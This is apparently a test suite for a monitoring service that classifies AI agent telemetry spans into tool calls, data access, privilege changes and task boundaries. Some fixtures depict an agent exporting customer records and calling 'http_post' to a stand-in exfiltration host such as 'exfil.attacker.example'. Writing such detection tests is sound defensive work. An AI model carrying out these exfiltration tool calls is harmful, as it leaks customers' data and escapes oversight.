import { describe, expect, it } from 'vitest';
import { TRACE, span, request } from '../helpers/otlp-spans.ts';
import { MAX_TASK_ID_LENGTH, addressableTaskId, classifyRequest, nanosToMs } from '../../services/core/classify.ts';
import {
  LANGGRAPH_JS_EXFIL_URL,
  LANGGRAPH_JS_TOOL_CALLS,
  LANGGRAPH_JS_TRACE,
  LANGGRAPH_JS_TURNS,
  langgraphJsRequest,
} from '../helpers/langgraph-js-run.ts';

const task = { 'tripline.task.id': 'task-1', 'tripline.task.type': 'summarize_ticket' };

describe('classifyRequest', () => {
  it('classifies an OTel GenAI execute_tool span as a tool call', () => {
    const { events } = classifyRequest(
      request([
        span('execute_tool get_ticket', {
          ...task,
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': 'get_ticket',
          'tripline.tool.side_effect': 'read',
        }),
      ]),
      'acme',
    );
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      kind: 'tool_call',
      tenant: 'acme',
      taskId: 'task-1',
      taskType: 'summarize_ticket',
      agentId: 'agent-7',
      tool: { name: 'get_ticket', sideEffect: 'read' },
    });
  });

  it('recognises MCP, OpenInference and OpenLLMetry tool spans', () => {
    const { events } = classifyRequest(
      request([
        span('tools/call search', { ...task, 'mcp.method.name': 'tools/call', 'mcp.tool.name': 'search' }),
        span('search_docs', { ...task, 'openinference.span.kind': 'TOOL', 'tool.name': 'search_docs' }),
        span('weather.tool', { ...task, 'traceloop.span.kind': 'tool', 'traceloop.entity.name': 'get_weather' }),
      ]),
      'default',
    );
    expect(events.map((event) => [event.kind, event.tool?.name])).toEqual([
      ['tool_call', 'search'],
      ['tool_call', 'search_docs'],
      ['tool_call', 'get_weather'],
    ]);
  });

  it('classifies db.* spans as data access with resource, rows, bytes and host', () => {
    const { events } = classifyRequest(
      request([
        span('SELECT crm.customers', {
          ...task,
          'db.system.name': 'postgresql',
          'db.namespace': 'crm',
          'db.collection.name': 'customers',
          'db.response.returned_rows': 5000,
          'tripline.data.bytes': 123456,
          'server.address': 'db.internal',
          'tripline.data.classification': 'restricted',
        }),
      ]),
      'default',
    );
    expect(events[0]).toMatchObject({
      kind: 'data_access',
      data: {
        resource: 'crm.customers',
        rows: 5000,
        bytes: 123456,
        host: 'db.internal',
        classification: 'restricted',
        system: 'postgresql',
      },
    });
  });

  it('reads privilege changes with scope lists', () => {
    const { events } = classifyRequest(
      request([
        span('privilege elevate', {
          ...task,
          'tripline.privilege.action': 'elevate',
          'tripline.privilege.scopes_before': ['read'],
          'tripline.privilege.scopes_after': 'read, admin',
          'tripline.privilege.approved': false,
        }),
      ]),
      'default',
    );
    expect(events[0]?.privilege).toEqual({
      action: 'elevate',
      scopesBefore: ['read'],
      scopesAfter: ['read', 'admin'],
      approved: false,
    });
  });

  it('lets an explicit tripline.event.kind win over inference', () => {
    const { events } = classifyRequest(
      request([
        span('execute_tool fetch', {
          ...task,
          'gen_ai.operation.name': 'execute_tool',
          'tripline.event.kind': 'data_access',
          'url.full': 'https://files.example.com/a.csv?token=secret',
        }),
      ]),
      'default',
    );
    expect(events[0]).toMatchObject({
      kind: 'data_access',
      data: { resource: 'https://files.example.com/a.csv', host: 'files.example.com' },
    });
  });

  it('reads the data access of stock instrumentations: MCP resources/read, GenAI retrieval, OpenInference RETRIEVER, older database conventions', () => {
    const { events } = classifyRequest(
      request([
        span('resources/read file:///srv/crm/export.csv', {
          'mcp.method.name': 'resources/read',
          'mcp.resource.uri': 'file:///srv/crm/export.csv?x=1',
        }),
        span('retrieval kb', { 'gen_ai.operation.name': 'retrieval', 'gen_ai.data_source.id': 'support-kb' }),
        span('VectorStoreRetriever', { 'openinference.span.kind': 'RETRIEVER', 'input.value': 'refund policy' }),
        span('SELECT', { 'db.system': 'sqlite', 'db.statement': 'SELECT id, email FROM customers LIMIT 5' }),
        span('query', {
          'db.system': 'postgresql',
          'db.name': 'crm',
          'db.sql.table': 'orders',
          'db.operation': 'UPDATE',
        }),
      ]),
      'default',
    );
    expect(
      events.map((event) => [event.kind, event.data?.resource, event.data?.operation, event.data?.system]),
    ).toEqual([
      ['data_access', 'file:///srv/crm/export.csv', undefined, undefined],
      ['data_access', 'support-kb', undefined, undefined],
      ['data_access', 'VectorStoreRetriever', undefined, undefined],
      ['data_access', 'customers', 'SELECT', 'sqlite'],
      ['data_access', 'crm.orders', 'UPDATE', 'postgresql'],
    ]);
  });

  it('takes the target of a tool from the arguments the framework recorded when nothing else names it', () => {
    const { events } = classifyRequest(
      request([
        span('execute_tool http_post', {
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': 'http_post',
          'gen_ai.tool.call.arguments': '{"url":"https://exfil.attacker.example/upload","body":"x"}',
        }),
        span('http_post', {
          'openinference.span.kind': 'TOOL',
          'tool.name': 'http_post',
          'input.value': '{"url": "https://hooks.example.net/in"}',
        }),
        span('execute_tool send_mail', {
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': 'send_mail',
          'gen_ai.tool.call.arguments': '{"to":"a@b.example","body":"see https://x.example"}',
        }),
        span('execute_tool fetch', {
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': 'fetch',
          'tripline.tool.target': 'api.internal',
          'gen_ai.tool.call.arguments': '{"url":"https://other.example"}',
        }),
      ]),
      'default',
    );
    expect(events.map((event) => event.tool?.target)).toEqual([
      'https://exfil.attacker.example/upload',
      'https://hooks.example.net/in',
      undefined,
      'api.internal',
    ]);
  });

  it('turns the task span into a task boundary and counts other spans as dropped', () => {
    const batch = classifyRequest(
      request([
        span('task summarize_ticket', { ...task, 'tripline.task.root': true }, { parentSpanId: '' }),
        span('chat gpt-4o', { 'gen_ai.operation.name': 'chat' }),
        span('GET /health', {}),
      ]),
      'default',
    );
    expect(batch.events).toHaveLength(0);
    expect(batch.boundaries).toEqual([
      expect.objectContaining({ taskId: 'task-1', taskType: 'summarize_ticket', agentId: 'agent-7', ends: true }),
    ]);
    // The chat span is no event and no boundary, but a model call: its usage goes on (services/core/model-usage.ts).
    expect(batch.usages).toEqual([expect.objectContaining({ taskId: TRACE, operation: 'chat', model: 'unknown' })]);
    expect(batch.usageOnly).toBe(1);
    expect(batch.dropped).toBe(1);
  });

  it('ends the task of the trace at its root (no parent, or a remote parent) without any Tripline attribute', () => {
    const batch = classifyRequest(
      request(
        [
          span(
            'invoke_agent refund_agent',
            { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'refund_agent' },
            { parentSpanId: '' },
          ),
          span('POST /agent', {}, { parentSpanId: 'b7ad6b7169203331', flags: 0x300 }),
          span('chat gpt-4o', { 'gen_ai.operation.name': 'chat' }, { parentSpanId: 'b7ad6b7169203331', flags: 0x100 }),
        ],
        { 'service.name': 'refund-service' },
      ),
      'default',
    );
    expect(batch.boundaries).toEqual([
      expect.objectContaining({
        taskId: TRACE,
        ends: true,
        claims: { agentId: 'refund_agent' },
        agentId: 'refund_agent',
      }),
      expect.objectContaining({ taskId: TRACE, ends: true, claims: {}, agentId: 'refund-service' }),
    ]);
    expect(batch.usageOnly).toBe(1);
    expect(batch.dropped).toBe(0);
  });

  it('turns a span that declares a task on its own attributes into one declaration per trace and request', () => {
    const batch = classifyRequest(
      request(
        [
          span('task refund', { 'tripline.task.id': 'refund-42', 'tripline.task.type': 'customer_refund' }),
          span('chat gpt-4o', { 'tripline.task.id': 'refund-42', 'gen_ai.operation.name': 'chat' }),
          span('chat gpt-4o', { 'gen_ai.operation.name': 'chat' }),
        ],
        { 'tripline.task.type': 'customer_refund' },
      ),
      'default',
    );
    expect(batch.boundaries).toEqual([
      expect.objectContaining({
        taskId: 'refund-42',
        ends: false,
        claims: { taskId: 'refund-42', taskType: 'customer_refund' },
      }),
    ]);
    expect(batch.usages.map((usage) => usage.taskId)).toEqual(['refund-42', TRACE]);
    expect(batch.usageOnly).toBe(2);
    expect(batch.dropped).toBe(0);
  });

  it('falls back to the trace id, unknown type and service name when task context is missing', () => {
    const { events } = classifyRequest(
      request([span('execute_tool x', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x' })], {
        'service.name': 'billing-bot',
      }),
      'default',
    );
    expect(events[0]).toMatchObject({ taskId: TRACE, taskType: 'unknown', agentId: 'billing-bot' });
  });

  it('gives task ids the API cannot address (too long, dot segments) a stable id it can', () => {
    const long = 'x'.repeat(MAX_TASK_ID_LENGTH + 1);
    for (const id of [long, '.', '..']) {
      const { events } = classifyRequest(
        request([
          span('execute_tool x', {
            'tripline.task.id': id,
            'gen_ai.operation.name': 'execute_tool',
            'gen_ai.tool.name': 'x',
          }),
        ]),
        'default',
      );
      expect(events[0]?.taskId, JSON.stringify(id)).toMatch(/^tid-[0-9a-f]{32}$/);
      expect(events[0]?.taskId).toBe(addressableTaskId(id));
    }
    expect(addressableTaskId(long)).not.toBe(addressableTaskId(`${long}y`));
    for (const id of ['a', '...', 'x'.repeat(MAX_TASK_ID_LENGTH), 'task/1']) expect(addressableTaskId(id)).toBe(id);
  });

  it('gives each span a deterministic id and marks errors', () => {
    const s = span(
      'execute_tool x',
      { ...task, 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x', 'error.type': 'timeout' },
      { status: { code: 2 } },
    );
    const first = classifyRequest(request([s]), 'default').events[0];
    const again = classifyRequest(request([s]), 'default').events[0];
    expect(first?.id).toBe(`${TRACE}${s.spanId}`);
    expect(again?.id).toBe(first?.id);
    expect(first).toMatchObject({ error: true, errorType: 'timeout' });
  });

  it('ignores negative or non-numeric counts instead of trusting them', () => {
    const { events } = classifyRequest(
      request([
        span('read', {
          ...task,
          'db.system.name': 'x',
          'db.collection.name': 'c',
          'db.response.returned_rows': -5,
          'tripline.data.bytes': 'lots',
        }),
      ]),
      'default',
    );
    expect(events[0]?.data?.rows).toBeUndefined();
    expect(events[0]?.data?.bytes).toBeUndefined();
  });

  it('converts nanosecond timestamps to milliseconds with microsecond precision', () => {
    expect(nanosToMs('1795900000123456789')).toBeCloseTo(1795900000123.456, 3);
    expect(nanosToMs('0')).toBe(0);
  });

  it('reads a LangGraph.js run as OpenInference exports it: its tool calls, one model call per turn, its root', () => {
    const batch = classifyRequest(langgraphJsRequest(), 'acme');
    expect(batch.events.map((event) => [event.kind, event.tool?.name])).toEqual([
      ['tool_call', 'export_customers'],
      ['tool_call', 'http_post'],
    ]);
    expect(batch.events).toHaveLength(LANGGRAPH_JS_TOOL_CALLS);
    const [exported, post] = batch.events;
    expect(post).toMatchObject({
      taskId: LANGGRAPH_JS_TRACE,
      taskType: 'refund_langgraph_js_trace',
      agentId: 'support-agent-langgraph',
      tool: { name: 'http_post', target: LANGGRAPH_JS_EXFIL_URL, argumentKeys: ['body', 'url'] },
    });
    // The result is the ToolMessage's content: its customers' addresses, not `@langchain/core` as a handle.
    expect(exported?.tool?.resultCounterparties?.map((counterparty) => counterparty.kind).sort()).toEqual([
      'domain',
      'email',
      'email',
    ]);
    expect(post?.tool?.resultCounterparties?.map((counterparty) => counterparty.kind)).toEqual(['url_host']);
    // The chat model's LLM spans are the model calls; the graph's chain spans (model_request…) are not.
    expect(batch.usages).toHaveLength(LANGGRAPH_JS_TURNS);
    expect(batch.usages.map((usage) => [usage.operation, usage.inputTokens, usage.outputTokens])).toEqual(
      Array.from({ length: LANGGRAPH_JS_TURNS }, () => ['chat', 20, 10]),
    );
    // The graph's root span ends the task; the other chain spans are dropped.
    expect(batch.boundaries).toMatchObject([{ ends: true, taskId: LANGGRAPH_JS_TRACE, spanId: 'eaf6d54bae931009' }]);
    expect(batch.usageOnly).toBe(LANGGRAPH_JS_TURNS);
    expect(batch.dropped).toBe(15 - LANGGRAPH_JS_TOOL_CALLS - LANGGRAPH_JS_TURNS - 1);
  });
});
